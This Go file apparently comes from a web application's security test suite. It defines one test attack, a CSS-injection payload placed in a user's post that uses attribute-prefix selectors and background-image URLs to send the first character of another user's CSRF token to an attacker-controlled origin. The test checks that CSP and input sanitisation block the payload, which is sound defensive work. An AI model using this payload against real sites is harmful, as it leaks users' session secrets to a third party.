package attack

import (
	"context"
	"fmt"
	"strings"
)

func styleThatReadsTheToken() Attack {
	return Attack{
		Name: "style-that-reads-the-token", Group: "browser", Browser: true,
		Title:  "A style in Bob's post tells his site, by the picture that it asks for, how Alice's token begins",
		Expect: []string{"transport/csp", "input/clean", "input/render"},
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			evil, err := s.elsewhere(ctx)
			if err != nil {
				return false, err
			}
			return s.written(ctx, "<style>"+spelled(evil.Origin)+"</style>"+hello, func(alice *seat) (bool, error) {
				token := says[string](alice, `document.querySelector("article [name=_token]").value`)
				return token != "" && alice.within(aMoment, func() bool { return evil.was(fmt.Sprintf("GET /?%x ", token[:1])) }), nil
			})
		},
	}
}

// spelled is a rule for each character with which a token could begin.
func spelled(origin string) string {
	var rules strings.Builder
	for _, c := range "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_" {
		fmt.Fprintf(&rules, "[name=_token][value^='%c']~*{background:url(%s/?%x)}", c, origin, c)
	}
	return rules.String()
}
